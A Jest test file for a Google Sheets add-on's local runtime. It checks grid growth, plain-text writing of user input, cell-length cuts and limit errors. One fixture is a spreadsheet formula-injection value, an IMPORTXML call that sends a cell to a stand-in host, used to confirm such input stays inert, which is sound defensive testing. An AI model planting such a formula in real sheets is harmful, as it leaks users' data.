/**
 * The real bundle on the strict local SpreadsheetApp obeys Google's rules for writes:
 * it grows a sheet before writing past its grid (a 60-week plan, a log at the end of
 * its 1000 rows), writes what users and clients typed as text (the add-document form,
 * client names that look like formulas, numbers, dates or percentages), days as dates,
 * cuts its own cells under the 50,000-character limit, and says in the user's language
 * when a spreadsheet has no room left, writing nothing half.
 */
import ExcelJS from 'exceljs';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { OWNED_SHEETS } from '../../src/core/ownedSheets';
import { LOG_HEADER } from '../../src/core/reminders/log';
import { createLocalRuntime } from '../../src/local/runner/runtime';
import { DIST } from '../support/bundle';
import { DOC_HEADER, TEAM, invoice, readLog, readOutbox, type Doc } from './reminders.fixture';

const fresh = () => mkdtempSync(join(tmpdir(), 'account-desk-google-rules-'));
const KEYWORDS = 'accountDesk:timeZone=Europe/Moscow;locale=ru_RU';

/** Names a client or an AM may well type, each of which Sheets would parse if written as is. */
const LOOKALIKES = ['=IMPORTXML("http://x"&B12)', '0012', '07.12.2026', '20%'];

/** The local runtime on `file` as of 07.12.2026, its output beside the test's folder. */
function openRuntime(file: string, dir: string) {
  return createLocalRuntime({ file, outDir: join(dir, 'out'), today: '2026-12-07', distDir: DIST });
}

/** What the add-document form sends for an incoming invoice of 1 000 ₽ dated 07.12, due 17.12. */
function invoiceForm(number: string, counterparty: string, clientEmail: string) {
  return {
    type: 'invoice',
    number,
    counterparty,
    direction: 'incoming',
    contract: '',
    date: '2026-12-07',
    amount: '1 000',
    dueDate: '2026-12-17',
    clientEmail,
    manager: '',
  };
}

function addDocuments(workbook: ExcelJS.Workbook, docs: Doc[]): ExcelJS.Worksheet {
  const ws = workbook.addWorksheet('Документы');
  ws.addRow([...DOC_HEADER]);
  for (const doc of docs) ws.addRow(DOC_HEADER.map((column) => doc[column] ?? null));
  return ws;
}

async function save(workbook: ExcelJS.Workbook, dir: string, name: string): Promise<string> {
  workbook.keywords = KEYWORDS;
  const file = join(dir, `${name}.xlsx`);
  await workbook.xlsx.writeFile(file);
  return file;
}

async function output(path: string): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(path);
  return workbook;
}

/** Every cell of a worksheet with its address, raw value and formula (if any). */
function cellsOf(ws: ExcelJS.Worksheet | undefined, fromCol = 1) {
  const cells: { at: string; value: ExcelJS.CellValue; formula?: string; numFmt: string }[] = [];
  ws?.eachRow((row) =>
    row.eachCell((cell, col) => {
      if (col >= fromCol)
        cells.push({ at: cell.address, value: cell.value, formula: cell.formula, numFmt: cell.numFmt });
    }),
  );
  return cells;
}

/** A Monday-start week column header for each of `weeks` weeks from 07.12.2026. */
function weekHeaders(weeks: number): Date[] {
  return Array.from({ length: weeks }, (_, w) => new Date(Date.UTC(2026, 11, 7 + 7 * w)));
}

async function loadWorkbook(dir: string, weeks: number, clients: string[]): Promise<string> {
  const workbook = new ExcelJS.Workbook();
  workbook.addWorksheet('Команда').addRows([
    ['Сотрудник', 'Email', 'Роль', 'Часов в неделю'],
    ['Иванова', 'ivanova@agency.example', 'копирайтер', 40],
  ]);
  const load = workbook.addWorksheet('Загрузка');
  load.addRow(['Сотрудник', 'Клиент / задача', ...weekHeaders(weeks)]);
  for (let w = 0; w < weeks; w += 1) load.getCell(1, 3 + w).numFmt = 'dd.mm.yyyy';
  clients.forEach((client, i) => {
    load.addRow([i === 0 ? 'Иванова' : null, client, ...Array<number>(weeks).fill(20)]);
  });
  return save(workbook, dir, 'load');
}

describe('a sheet is grown before the add-on writes past its grid', () => {
  it('recalculates a 60-week load plan into a summary 66 columns wide', async () => {
    const dir = fresh();
    const file = await loadWorkbook(dir, 60, ['Клиент А']);
    const runtime = await openRuntime(file, dir);
    runtime.call('recalculate');
    await runtime.save();
    expect(runtime.ui.alerts).toEqual([]);
    const summary = runtime.spreadsheet.getSheetByName(OWNED_SHEETS.loadSummary)!;
    expect(summary.getMaxColumns()).toBeGreaterThanOrEqual(62);
    // The last week of the plan has its column: 60 weeks after the two name columns.
    const header = cellsOf((await output(runtime.documentPath)).getWorksheet(OWNED_SHEETS.loadSummary));
    const texts = header.map((cell) => String(cell.value));
    expect(texts).toContain('24.01–28.01'); // week 60 of the plan: 24.01.2028
    // One grow call for the block, not one per column.
    expect(runtime.counters.snapshot()['Sheet.insertColumnsAfter']).toBe(1);
  }, 60_000);

  it('sends each of a day’s 20 reminders once into a log already holding 995 of its 1000 rows', async () => {
    const dir = fresh();
    const workbook = new ExcelJS.Workbook();
    workbook.addWorksheet('Команда').addRows(TEAM);
    const docs = Array.from({ length: 20 }, (_, i) =>
      invoice(`С-${i + 1}`, `Клиент ${i + 1}`, '01.12.2026', `c${i + 1}@client.example`, ''),
    );
    addDocuments(workbook, docs).getColumn(6).numFmt = 'dd.mm.yyyy';
    const log = workbook.addWorksheet(OWNED_SHEETS.log);
    log.addRow(LOG_HEADER);
    // Yesterday's rows: recent, so the monthly move to the archive leaves them in the log.
    for (let i = 1; i < 995; i += 1)
      log.addRow([
        '2026-12-01T06:00:00.000Z',
        'overdue',
        `старый-ключ-${i}`,
        'old@client.example',
        'Тема',
        'отправлено',
        '',
      ]);
    const file = await save(workbook, dir, 'docs');
    const outDir = join(dir, 'out');

    for (let run = 0; run < 2; run += 1) {
      const runtime = await createLocalRuntime({
        file,
        outDir,
        today: '2026-12-02',
        distDir: DIST,
        mode: 'send',
      });
      runtime.call('dailyRun');
      await runtime.save();
    }
    const mails = await readOutbox(outDir);
    const recipients = mails.map((mail) => mail.to.join(',')).sort();
    expect(recipients).toEqual(docs.map((doc) => String(doc['Email клиента'])).sort());
    const rows = await readLog(outDir, 'docs');
    expect(rows).toHaveLength(994 + 20);
    expect(rows.slice(994).map((row) => row.result)).toEqual(Array(20).fill('отправлено'));
  }, 120_000);

  it('creates the owned columns past column Z and adds a document past row 1000 of a full register', async () => {
    const dir = fresh();
    const workbook = new ExcelJS.Workbook();
    workbook.addWorksheet('Команда').addRows(TEAM);
    const ws = workbook.addWorksheet('Документы');
    const extra = Array.from({ length: 26 - DOC_HEADER.length }, (_, i) => `Заметка ${i + 1}`);
    ws.addRow([...DOC_HEADER, ...extra]);
    for (let i = 1; i < 1000; i += 1) {
      const doc = invoice(`С-${i}`, `Клиент ${i}`, '20.12.2026', `c${i}@client.example`);
      ws.addRow(DOC_HEADER.map((column) => doc[column] ?? null));
    }
    const file = await save(workbook, dir, 'full');
    const runtime = await openRuntime(file, dir);
    // The form writes its row, then recalculates: the owned columns come with it.
    const result = runtime.call(
      'addDocument',
      invoiceForm('С-1000', 'Клиент 1000', 'c1000@client.example'),
    ) as { ok: boolean };
    await runtime.save();
    expect(runtime.ui.alerts).toEqual([]);
    expect(result.ok).toBe(true);
    const sheet = (await output(runtime.documentPath)).getWorksheet('Документы')!;
    expect([27, 28, 29, 30].map((col) => sheet.getCell(1, col).value)).toEqual([
      'Состояние',
      'Просрочка, дн.',
      'Следующее напоминание',
      'Проверка',
    ]);
    expect(sheet.getCell(1001, 2).value).toBe('С-1000');
  }, 120_000);
});

describe('what users and clients typed is written as text', () => {
  it('keeps 0012 and =1+1 typed into the add-document form as that text', async () => {
    const dir = fresh();
    const workbook = new ExcelJS.Workbook();
    workbook.addWorksheet('Команда').addRows(TEAM);
    addDocuments(workbook, [invoice('С-1', 'ООО «Ромашка»', '20.12.2026', 'buh@romashka.example')]);
    const file = await save(workbook, dir, 'docs');
    const runtime = await openRuntime(file, dir);
    const result = runtime.call('addDocument', invoiceForm('0012', '=1+1', 'buh@example.com')) as {
      ok: boolean;
    };
    await runtime.save();
    expect(result.ok).toBe(true);
    const row = (await output(runtime.documentPath)).getWorksheet('Документы')!.getRow(3);
    expect([row.getCell(2).value, row.getCell(3).value]).toEqual(['0012', '=1+1']);
    expect(row.getCell(3).formula).toBeUndefined();
    expect(row.getCell(4).value).toBeInstanceOf(Date);
  }, 60_000);

  describe('in every owned cell, after a daily run', () => {
    let after: ExcelJS.Workbook;
    let alerts: unknown[];
    beforeAll(async () => {
      const dir = fresh();
      const workbook = new ExcelJS.Workbook();
      workbook.addWorksheet('Команда').addRows([...TEAM, ['0012', 'am0012@agency.example', 'аккаунт']]);
      const docs: Doc[] = LOOKALIKES.map((client, i) =>
        invoice(LOOKALIKES[(i + 1) % LOOKALIKES.length], client, '01.12.2026', `c${i}@client.example`),
      );
      docs.push({
        ...invoice('С-9', '20%', '01.12.2026', 'c9@client.example', '0012'),
        Сумма: 'x'.repeat(60_000),
      });
      addDocuments(workbook, docs).getColumn(6).numFmt = 'dd.mm.yyyy';
      const load = workbook.addWorksheet('Загрузка');
      load.addRow(['Сотрудник', 'Клиент / задача', ...weekHeaders(2)]);
      load.getCell('C1').numFmt = 'dd.mm.yyyy';
      load.getCell('D1').numFmt = 'dd.mm.yyyy';
      LOOKALIKES.forEach((client, i) => load.addRow([i === 0 ? 'Иванова' : null, client, 20, 20]));
      const file = await save(workbook, dir, 'agency');
      const runtime = await createLocalRuntime({
        file,
        outDir: join(dir, 'out'),
        today: '2026-12-02',
        distDir: DIST,
        mode: 'send',
      });
      runtime.call('dailyRun');
      await runtime.save();
      alerts = runtime.ui.alerts;
      after = await output(runtime.documentPath);
    }, 60_000);

    const owned = () => [
      ...cellsOf(after.getWorksheet('Документы'), DOC_HEADER.length + 1),
      ...[OWNED_SHEETS.receivables, OWNED_SHEETS.loadSummary, OWNED_SHEETS.log].flatMap((name) =>
        cellsOf(after.getWorksheet(name)),
      ),
    ];

    it('holds no formula, in sheets the run did write', () => {
      expect(alerts).toEqual([]);
      for (const name of [OWNED_SHEETS.receivables, OWNED_SHEETS.loadSummary, OWNED_SHEETS.log])
        expect({ name, cells: cellsOf(after.getWorksheet(name)).length > 10 }).toEqual({ name, cells: true });
      expect(owned().filter((cell) => cell.formula !== undefined)).toEqual([]);
    });

    it.each(LOOKALIKES)('shows the client %j as that text in Дебиторка and Сводка загрузки', (client) => {
      for (const name of [OWNED_SHEETS.receivables, OWNED_SHEETS.loadSummary]) {
        const exact = cellsOf(after.getWorksheet(name)).filter((cell) => cell.value === client);
        expect({ sheet: name, client, found: exact.length > 0 }).toEqual({
          sheet: name,
          client,
          found: true,
        });
        for (const cell of exact)
          expect({ at: cell.at, numFmt: cell.numFmt }).toEqual({ at: cell.at, numFmt: '@' });
      }
    });

    it('keeps every string of an owned cell in a plain-text cell, and a number or date only where one belongs', () => {
      for (const cell of owned()) {
        if (typeof cell.value === 'string')
          expect({ at: cell.at, numFmt: cell.numFmt }).toEqual({ at: cell.at, numFmt: '@' });
        if (cell.value instanceof Date)
          expect({ at: cell.at, date: /d/.test(cell.numFmt) }).toEqual({ at: cell.at, date: true });
      }
    });

    it('writes the next reminder as a date cell and the log’s fields as text', () => {
      const docs = after.getWorksheet('Документы')!;
      const header = docs.getRow(1);
      let col = 0;
      header.eachCell((cell, c) => {
        if (cell.value === 'Следующее напоминание') col = c;
      });
      const days = [2, 3, 4, 5].map((r) => docs.getRow(r).getCell(col)).filter((cell) => cell.value !== null);
      expect(days.length).toBeGreaterThan(0);
      for (const cell of days) {
        expect(cell.value).toBeInstanceOf(Date);
        expect(cell.numFmt).toBe('dd.mm.yyyy');
      }
      const time = after.getWorksheet(OWNED_SHEETS.log)!.getCell('A2');
      expect(typeof time.value).toBe('string');
    });

    it('cuts a Проверка cell quoting a 60,000-character user cell under the cell limit, with an ellipsis', () => {
      const problems = cellsOf(after.getWorksheet('Документы'), DOC_HEADER.length + 1).filter(
        (cell) => typeof cell.value === 'string' && cell.value.includes('xxxx'),
      );
      expect(problems).toHaveLength(1);
      const text = String(problems[0].value);
      expect(text.length).toBeLessThanOrEqual(50_000);
      expect(text.endsWith('…')).toBe(true);
    });
  });
});

describe('a write past Google Sheets’ limits', () => {
  it('is refused with a sentence in Russian, and the sheet it needed is not half-written', async () => {
    const dir = fresh();
    const workbook = new ExcelJS.Workbook();
    workbook.addWorksheet('Команда').addRows(TEAM);
    addDocuments(workbook, [invoice('С-1', 'ООО «Ромашка»', '01.12.2026', 'buh@romashka.example')]);
    // An archive sheet whose grid (382,230 rows × 26) leaves less room than a new sheet needs.
    const archive = workbook.addWorksheet('Архив');
    archive.getCell(382_230, 26).fill = { type: 'pattern', pattern: 'solid', fgColor: { argb: 'FFEEEEEE' } };
    const file = await save(workbook, dir, 'full');
    const runtime = await openRuntime(file, dir);
    runtime.call('recalculate');
    expect(JSON.stringify(runtime.ui.alerts)).toMatch(
      /«Дебиторка» нельзя расширить: в таблице было бы больше 10 000 000 ячеек/,
    );
    expect(runtime.spreadsheet.getSheetByName(OWNED_SHEETS.receivables)).toBeNull();
  }, 60_000);
});
